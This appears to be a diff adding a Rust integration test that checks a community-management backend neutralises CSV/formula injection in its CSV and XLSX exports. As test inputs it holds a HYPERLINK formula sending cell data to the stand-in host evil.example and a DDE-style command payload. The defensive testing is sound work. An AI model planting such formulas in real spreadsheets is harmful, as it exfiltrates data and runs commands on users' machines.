@@ -26,6 +26,7 @@ on_both_backends!(
     patrols_activities_party_registrations_and_assets_are_counted_and_listed,
     xlsx_exports_hold_no_id_number_or_phone_of_any_resident,
     the_conflict_inbox_and_the_audit_log_export_for_their_readers_only,
+    hostile_text_is_neutralised_in_csv_and_stays_text_in_xlsx,
 );
 
 fn now() -> Timestamp {
@@ -1024,5 +1025,124 @@ async fn the_conflict_inbox_and_the_audit_log_export_for_their_readers_only(
     assert!(text.contains("conflicts"), "{text}");
     let (status, _, body) = get_raw(&app, &root, "/v1/exports/audit.xlsx").await?;
     assert_eq!((status, &body[..2]), (200, &b"PK"[..]));
+    app.stop().await
+}
+
+/// A cell a spreadsheet would run as a formula (OWASP "CSV injection").
+fn formula_like(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// The cells of a CSV export (after its byte-order mark), header row first.
+fn csv_cells(body: &[u8]) -> anyhow::Result<Vec<Vec<String>>> {
+    let body = body
+        .strip_prefix("\u{feff}".as_bytes())
+        .ok_or_else(|| anyhow::anyhow!("no BOM"))?;
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(body);
+    let mut rows = Vec::new();
+    for record in reader.records() {
+        rows.push(record?.iter().map(str::to_owned).collect());
+    }
+    Ok(rows)
+}
+
+/// Text that a spreadsheet would run as a formula reaches every export: a household and a case
+/// written on a phone, and a failed sign-in's login (attacker-chosen, in the audit log). In CSV
+/// every such cell starts with `'` (OWASP), so it opens as text; in XLSX it stays a string cell
+/// (never a formula), verbatim.
+async fn hostile_text_is_neutralised_in_csv_and_stays_text_in_xlsx(
+    app: TestApp,
+) -> anyhow::Result<()> {
+    let li = app.user("li", Role::GridWorker, app.grid_a()).await?;
+    let boss = app
+        .user("boss", Role::CommunitySupervisor, app.grid_a())
+        .await?;
+    let admin = app.user("root", Role::Admin, app.grid_a()).await?;
+    let link = r#"=HYPERLINK("http://evil.example/?d="&A1,"点我")"#;
+    let mut phone = app.phone(&li).await?;
+    let mut h = household(&app.grid_a(), "-2+3");
+    h.address.compound = link.into();
+    h.address.building = "+1".into();
+    h.address.unit = "@SUM(1+1)*cmd|' /C calc'!A0".into();
+    h.tags = vec!["\tcmd".into()];
+    phone.replica.create(&h, at(0))?;
+    let mut c = case(&app.grid_a(), &li.id);
+    c.subject = "=1+2".into();
+    c.category = "\r=cmd".into();
+    phone.replica.create(&c, at(1))?;
+    phone.sync(&app).await?;
+    let login = r#"=HYPERLINK("http://evil.example/?x="&A1,"login")"#;
+    let failed = app
+        .http
+        .post(app.url("/v1/auth/login"))
+        .json(&serde_json::json!({"login": login, "password": "not the password at all"}))
+        .send()
+        .await?;
+    assert_eq!(failed.status().as_u16(), 401);
+
+    let sup = app.phone(&boss).await?;
+    let root = app.phone(&admin).await?;
+    for (who, path, expected) in [
+        (
+            &sup,
+            "/v1/exports/households.csv",
+            vec![
+                format!("'{link}"),
+                "'+1".to_owned(),
+                "'@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
+                "'-2+3".to_owned(),
+                "'\tcmd".to_owned(),
+            ],
+        ),
+        (
+            &sup,
+            "/v1/exports/cases.csv",
+            vec!["'=1+2".to_owned(), "'\r=cmd".to_owned()],
+        ),
+        (
+            &root,
+            "/v1/exports/audit.csv?action=login_failed",
+            vec![format!("'{login}")],
+        ),
+    ] {
+        let (status, _, body) = get_raw(&app, who, path).await?;
+        assert_eq!(status, 200, "{path}: {}", String::from_utf8_lossy(&body));
+        let rows = csv_cells(&body)?;
+        assert!(rows.len() >= 2, "{path}: no rows");
+        for row in &rows {
+            for cell in row {
+                assert!(!formula_like(cell), "{path}: a formula-like cell {cell:?}");
+            }
+        }
+        let cells: Vec<&String> = rows.iter().flatten().collect();
+        for want in &expected {
+            assert!(
+                cells.contains(&want),
+                "{path}: no cell {want:?} in {rows:?}"
+            );
+        }
+    }
+
+    // XLSX: string cells, verbatim, and not one formula.
+    for (who, path, needle) in [
+        (&sup, "/v1/exports/households.xlsx", "=HYPERLINK("),
+        (&sup, "/v1/exports/cases.xlsx", "=1+2"),
+        (&root, "/v1/exports/audit.xlsx", "=HYPERLINK("),
+    ] {
+        let (status, _, body) = get_raw(&app, who, path).await?;
+        assert_eq!(status, 200, "{path}");
+        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(body))?;
+        let mut sheet = String::new();
+        zip.by_name("xl/worksheets/sheet1.xml")?
+            .read_to_string(&mut sheet)?;
+        assert!(
+            !sheet.contains("<f>") && !sheet.contains("<f "),
+            "{path}: a formula"
+        );
+        assert!(sheet.contains(needle), "{path}: {needle} missing");
+        assert!(!sheet.contains(&format!("'{needle}")), "{path}: prefixed");
+    }
     app.stop().await
 }
